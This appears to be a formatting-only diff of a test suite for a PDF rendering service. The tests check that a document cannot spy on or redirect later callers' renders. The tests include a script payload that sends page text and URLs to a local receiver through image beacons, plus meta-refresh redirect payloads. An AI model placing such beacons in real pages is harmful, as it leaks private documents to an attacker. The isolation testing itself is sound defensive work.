@@ -47,14 +47,23 @@ async function openStage(): Promise<Stage> {
   const receiver = createServer((req, res) => {
     hits.push(decodeURIComponent(req.url ?? ''));
     // Every page the attacker navigates to reports whatever document it finds itself in.
-    res.writeHead(200, { 'Content-Type': 'text/html' }).end(`<p>attacker page</p><script>${stage.beacon('navigated')}</script>`);
+    res
+      .writeHead(200, { 'Content-Type': 'text/html' })
+      .end(`<p>attacker page</p><script>${stage.beacon('navigated')}</script>`);
   });
   await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
   const to = (label: string) => `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/${label}`;
   const exfiltrate = (label: string) =>
     `new Image().src = '${to(label)}?' + encodeURIComponent((document.body && document.body.innerText || '') + ' @ ' + location.href)`;
   const server = await startServer({ rateLimit: 100_000, timeout: '5s', concurrency: 1, allowPrivateNetwork: true });
-  const stage: Stage = { server, receiver, hits, exfiltrate, beacon: (label) => `setInterval(() => { ${exfiltrate(label)}; }, 25);`, to };
+  const stage: Stage = {
+    server,
+    receiver,
+    hits,
+    exfiltrate,
+    beacon: (label) => `setInterval(() => { ${exfiltrate(label)}; }, 25);`,
+    to,
+  };
   return stage;
 }
 
@@ -84,7 +93,11 @@ afterAll(async () => {
 });
 
 /** Ask the stage's server for a PDF of `htmlContent` (with `options`); answers its status and body. */
-async function renderSync(stage: Stage, htmlContent: string, options: Record<string, unknown> = {}): Promise<{ status: number; body: { fileUrl: string } }> {
+async function renderSync(
+  stage: Stage,
+  htmlContent: string,
+  options: Record<string, unknown> = {},
+): Promise<{ status: number; body: { fileUrl: string } }> {
   const response = await fetch(`${stage.server.url}/api/pdfs/render-sync`, {
     method: 'POST',
     headers: { 'Content-Type': 'application/json' },
@@ -109,7 +122,10 @@ async function expectVictimsIsolated(stage: Stage) {
     victims += 1;
     const marker = `VICTIM-${victims}`;
     const probe = `<p id="probe"></p><script>document.getElementById('probe').textContent = 'URL=' + location.href + ' BASE=' + document.baseURI + ' NAME=[' + window.name + '] HISTORY=' + history.length + ' FRAMES=' + frames.length;</script>`;
-    const { status, text } = await render(stage, `<h1>${marker}</h1><p>private to this caller</p>${script ? probe : ''}`);
+    const { status, text } = await render(
+      stage,
+      `<h1>${marker}</h1><p>private to this caller</p>${script ? probe : ''}`,
+    );
     expect(status, text).toBe(200);
     expect(text).toContain(marker);
     expect(text).toContain('private to this caller');
@@ -136,7 +152,9 @@ async function expectReceiverQuiet(stage: Stage, hitsBefore: number) {
   const { status, body } = await renderSync(stage, witness, { waitForExpression: `window.beats >= ${witnessBeats}` });
   expect(status, JSON.stringify(body)).toBe(200);
   // Counted at the receiver too: a beat refused on its way would count in the page all the same.
-  expect(stage.hits.slice(beats).filter((hit) => hit.startsWith('/witness')).length).toBeGreaterThanOrEqual(witnessBeats);
+  expect(stage.hits.slice(beats).filter((hit) => hit.startsWith('/witness')).length).toBeGreaterThanOrEqual(
+    witnessBeats,
+  );
   expect(stage.hits.slice(hitsBefore).filter((hit) => !hit.startsWith('/witness'))).toEqual([]);
 }
 
@@ -160,15 +178,26 @@ function attack(html: (stage: Stage) => string, options: { waitAfter?: number } 
 }
 
 describe.concurrent('a document leaves nothing on its page for the next caller (no script)', () => {
-  it('meta refresh at 0 s', () => attack(({ to }) => `<meta http-equiv="refresh" content="0;url=${to('refresh0')}"><p>attacker</p>`));
-  it('meta refresh at 1 s', () => attack(({ to }) => `<meta http-equiv="refresh" content="1;url=${to('refresh1')}"><p>attacker</p>`, { waitAfter: 1200 }));
-  it('meta refresh longer than a render (3 s)', () =>
-    attack(({ to }) => `<meta http-equiv="refresh" content="3;url=${to('refresh3')}"><p>attacker</p>`, { waitAfter: 3200 }));
-  it('meta refresh to itself (a refresh loop)', () => attack(() => `<meta http-equiv="refresh" content="1"><p>attacker</p>`, { waitAfter: 1200 }));
-  it('meta refresh inside a frame', () =>
-    attack(({ to }) => `<iframe srcdoc="<meta http-equiv=&quot;refresh&quot; content=&quot;1;url=${to('frame-refresh')}&quot;>"></iframe>`, {
+  it('meta refresh at 0 s', () =>
+    attack(({ to }) => `<meta http-equiv="refresh" content="0;url=${to('refresh0')}"><p>attacker</p>`));
+  it('meta refresh at 1 s', () =>
+    attack(({ to }) => `<meta http-equiv="refresh" content="1;url=${to('refresh1')}"><p>attacker</p>`, {
       waitAfter: 1200,
     }));
+  it('meta refresh longer than a render (3 s)', () =>
+    attack(({ to }) => `<meta http-equiv="refresh" content="3;url=${to('refresh3')}"><p>attacker</p>`, {
+      waitAfter: 3200,
+    }));
+  it('meta refresh to itself (a refresh loop)', () =>
+    attack(() => `<meta http-equiv="refresh" content="1"><p>attacker</p>`, { waitAfter: 1200 }));
+  it('meta refresh inside a frame', () =>
+    attack(
+      ({ to }) =>
+        `<iframe srcdoc="<meta http-equiv=&quot;refresh&quot; content=&quot;1;url=${to('frame-refresh')}&quot;>"></iframe>`,
+      {
+        waitAfter: 1200,
+      },
+    ));
 });
 
 describe.concurrent('a document leaves nothing on its page for the next caller (script)', () => {
@@ -258,12 +287,19 @@ describe('the CLI: one file of a batch leaves nothing for the next', () => {
     };
     const dir = await folderWith(files);
     const inputs = Object.keys(files).filter((name) => name !== 'elsewhere.html');
-    const run = await pdfrender(['render', ...inputs, '--out-dir', 'out', '--concurrency', '1', '--json'], { cwd: dir });
+    const run = await pdfrender(['render', ...inputs, '--out-dir', 'out', '--concurrency', '1', '--json'], {
+      cwd: dir,
+    });
     // An attacker's own file may fail (its refresh can fire while it prints); every victim must not.
-    const summary = JSON.parse(run.stdout.toString()) as { documents: Array<{ input: string; exitCode: number; error?: string }> };
-    for (const entry of summary.documents.filter((d) => d.input.includes('victim'))) expect(entry, entry.error).toMatchObject({ exitCode: 0 });
+    const summary = JSON.parse(run.stdout.toString()) as {
+      documents: Array<{ input: string; exitCode: number; error?: string }>;
+    };
+    for (const entry of summary.documents.filter((d) => d.input.includes('victim')))
+      expect(entry, entry.error).toMatchObject({ exitCode: 0 });
     const text = async (name: string) =>
-      (await readPdf(await readFile(join(dir, 'out', name.replace('.html', '.pdf'))))).pages.map((page) => page.text).join(' ');
+      (await readPdf(await readFile(join(dir, 'out', name.replace('.html', '.pdf'))))).pages
+        .map((page) => page.text)
+        .join(' ');
     for (const victim of ['b-victim.html', 'f-victim.html']) {
       const printed = await text(victim);
       expect(printed).toContain(`VICTIM-${victim[0]!.toUpperCase()}`);
